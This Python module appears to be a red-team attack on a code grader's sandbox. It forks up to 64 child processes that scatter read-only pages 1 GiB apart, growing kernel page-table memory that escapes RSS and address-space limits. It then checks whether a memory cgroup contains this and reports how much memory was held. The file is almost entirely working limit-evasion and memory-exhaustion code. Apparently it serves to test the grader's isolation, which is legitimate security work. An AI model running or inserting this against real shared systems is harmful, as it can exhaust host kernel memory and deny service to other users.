import ctypes
import os
import signal
import struct
import time

GIB = 1 << 30
CAP = GIB  # the worker's processes together, at the documented bound (address space / 512), hold 0.5 GiB at most
MOST_CHILDREN = 64
PAGE = 4096
SPACING = GIB  # a page every 1 GiB: each costs a page-table page (2 MiB) and a page-middle-directory page (1 GiB)
SECONDS = 8.0  # the red team's grader gives one test's calls 10 s
MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE = 0x02, 0x20, 0x4000
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (held bytes, what stopped it), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_FAILED = ctypes.c_void_p(-1).value


def _status_kib(field):
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def _read_one(address):
    ctypes.c_char.from_address(address).value  # a read maps the kernel's shared zero page: no memory, RSS 0


def _scatter_by_hints(start, deadline):
    """One read-only page of 4 KiB every SPACING bytes from `start`, placed by an address hint, until the
    kernel's limit on mappings (vm.max_map_count) or the deadline; (pages, what stopped it)."""
    pages = 0
    while time.monotonic() < deadline:
        want = start + pages * SPACING
        got = _libc.mmap(want, PAGE, 1, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
        if got in (None, _FAILED):
            return pages, f"mmap: {os.strerror(ctypes.get_errno())}"
        if got != want:  # the hint was not followed
            _libc.munmap(got, PAGE)
            return pages, "hint not followed"
        _read_one(got)
        pages += 1
    return pages, "ran out of time"


def _scatter_by_holes(deadline):
    """The same without choosing an address: map a large read-only region (no memory reserved), keep one
    page every SPACING bytes of it, unmap the rest, and again; (pages, what stopped it)."""
    pages, size = 0, 6 * GIB
    while time.monotonic() < deadline:
        base = _libc.mmap(None, size, 1, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
        if base in (None, _FAILED):
            if size > 2 * SPACING:
                size //= 2
                continue
            return pages, f"mmap: {os.strerror(ctypes.get_errno())}"
        first = (base + SPACING - 1) & ~(SPACING - 1)
        kept = list(range(first, base + size - PAGE + 1, SPACING))
        edges = [base] + [k for page in kept for k in (page, page + PAGE)] + [base + size]
        for low, high in zip(edges[::2], edges[1::2]):
            if high > low and _libc.munmap(low, high - low) != 0:
                return pages, f"munmap: {os.strerror(ctypes.get_errno())}"
        for page in kept:
            _read_one(page)
        if not kept:
            return pages, "no page kept"
        pages += len(kept)
    return pages, "ran out of time"


def scatter_pages(deadline):
    """In a child: pages of 4 KiB 1 GiB apart, each read, up to the kernel's limit on mappings (65,530 a
    process by default): each costs 8 KiB of page tables for 4 KiB of address space; (bytes of page tables
    it grew by, its address space's growth, what stopped it)."""
    tables, space = _status_kib("VmPTE"), _status_kib("VmSize")
    pages, stopped = _scatter_by_hints(1 << 40, deadline)
    how = "by address hints"
    if pages < 1000:
        more, stopped = _scatter_by_holes(deadline)
        pages, how = pages + more, f"by holes ({stopped if not more else 'hints: ' + stopped})"
    return ((_status_kib("VmPTE") - tables) * 1024, (_status_kib("VmSize") - space) * 1024,
            f"{pages} pages {how}: {stopped}")


def hold_page_tables(cap=CAP, seconds=SECONDS):
    """Page tables (kernel memory: in no process's RSS and outside RLIMIT_AS) held by forked children one
    after another until `cap`; (bytes held, what stopped it)."""
    start = time.monotonic()
    children, total, space, stopped = [], 0, 0, "reached the cap"
    reader, writer = os.pipe()
    try:
        while total < cap and len(children) < MOST_CHILDREN:
            if time.monotonic() > start + seconds:
                stopped = "ran out of time"
                break
            try:
                pid = os.fork()
            except OSError as error:
                stopped = f"fork: {error.strerror} after {len(children)} children"
                break
            if pid == 0:
                os.close(reader)
                try:
                    held, grew, said = scatter_pages(start + seconds)
                except BaseException as error:  # noqa: BLE001 - the parent must hear from every child
                    held, grew, said = 0, 0, repr(error)
                text = said.encode()[:200]
                os.write(writer, struct.pack("<QQH", held, grew, len(text)) + text)
                while True:
                    time.sleep(60)
            children.append(pid)
            got = os.read(reader, 18)
            if len(got) < 18:
                stopped = "a child died before it said how much it held"
                break
            held, grew, size = struct.unpack("<QQH", got)
            total, space = total + held, space + grew
            stopped = os.read(reader, size).decode() if size else ""
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return total, (f"{len(children)} children, {space / GIB:.2f} GiB of address space mapped in all, the last: "
                   f"{stopped}; {time.monotonic() - start:.1f} s")


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the memory once; if it could, answer honestly (so the attack shows as full marks where it must
    lose them), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_page_tables())
    held, stopped = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB of page tables in forked children ({stopped}), but the kernel "
                          f"charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of page tables in forked children ({stopped})")
    return None  # the function's own body runs on
